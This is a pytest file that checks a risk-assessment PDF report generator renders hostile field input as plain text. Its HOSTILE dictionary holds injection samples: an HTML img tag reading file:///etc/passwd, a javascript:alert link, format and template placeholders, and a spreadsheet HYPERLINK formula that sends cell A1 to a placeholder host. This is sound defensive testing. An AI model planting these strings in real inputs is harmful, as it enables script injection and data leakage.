"""Nothing typed into any field breaks a report or becomes anything but text."""

from io import BytesIO
from itertools import cycle

import pikepdf
import pytest

from regrisk.model.assessment import Assessment
from regrisk.model.pack import Pack
from tests.report.filled import Text, filled
from tests.report.making import made

HOSTILE = {
    "markup": "<b>bold <i>open <img src='file:///etc/passwd'/> <a href='javascript:alert(1)'>x</a>",
    "patterns": "{page} {pages} {limit} {question} {0} {} %s %(x)s ${HOME}",
    "directions": "\u202eabc\u202c \u200b\u2066x\u2069 \ufeff end",
    "controls": "a\x01b\x0cc\x1bd\x7f tail",
    "scripts": "患者登録 سجل المرضى रोगी 🏥👩\u200d⚕️ Ελληνικά",
    "one word": "W" * 400,
    "lines": "one\ntwo\r\nthree\n\n\nfour",
    "formula": '=HYPERLINK("http://example.invalid/?x"&A1)',
    "separators": "·|;,: — “quoted” (page 3) section 99",
}


def in_turn(first: int) -> Text:
    """Give each field the next hostile text, so that one report holds them all."""
    texts = cycle([*HOSTILE.values()][first:] + [*HOSTILE.values()][:first])
    return lambda _: next(texts)


@pytest.mark.parametrize("first", range(0, len(HOSTILE), 3))
def test_hostile_texts_in_every_field_are_printed_as_text(
    first: int, pack: Pack, examples: dict[str, Assessment]
) -> None:
    few = {
        question: response
        for question, response in examples["mid-size-conditional"].responses.items()
        if question.startswith(("DAT", "MIG"))
    }
    base = examples["mid-size-conditional"].model_copy(update={"responses": few})
    report = made(pack, filled(pack, base, in_turn(first), registry="Registry <b>&amp;</b> {page}"))
    assert len(report.pages) < 60
    assert "Decisions asked of the board" in report.pages[1]
    assert "Registry <b>&amp;</b> {page}" in report.pages[0]
    with pikepdf.open(BytesIO(report.content)) as pdf:
        outward = [
            str(link.A.get("/S")) for page in pdf.pages for link in page.get("/Annots", []) if "/A" in link
        ]
    assert not outward, "links lead inside the file and nowhere else"


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_text_leaves_a_summary_its_pages(
    hostile: str, pack: Pack, examples: dict[str, Assessment]
) -> None:
    base = examples["mid-size-conditional"]
    report = made(pack, filled(pack, base, lambda _: hostile, registry=hostile[:290]), variant="summary")
    assert "Decisions asked of the board" in report.pages[1]
    assert "Every point, by domain." in report.pages[2]
    assert len(report.pages) < 20


def test_markup_stands_on_the_page_as_it_was_typed(pack: Pack, examples: dict[str, Assessment]) -> None:
    assessment = filled(pack, examples["small-new-quick"], lambda _: "<b>5 < 6 & 7 > 3</b>")
    report = made(pack, assessment)
    assert "Scope: <b>5 < 6 & 7 > 3</b>" in report.text
    assert "&lt;" not in report.text


def test_the_longest_texts_go_to_the_annex_whole(pack: Pack, examples: dict[str, Assessment]) -> None:
    text = " ".join(f"word{number}" for number in range(560))[:4_990]
    base = examples["small-new-quick"]
    assessment = filled(pack, base, lambda field: text if field in ("scope", "note", "reason") else "short")
    report = made(pack, assessment)
    assert "Notes in full" in report.text
    assert "continued on page" in report.text
    last = text.rsplit(" ", 2)[1]
    assert report.text.count(last) == 2 * len(base.responses) - _without_scope(base)
    answers = report.pages_of("answers")
    assert len(answers) < 30


def _without_scope(assessment: Assessment) -> int:
    """Unknown answers have a note and no scope."""
    return sum(response.state == "unknown" for response in assessment.responses.values())
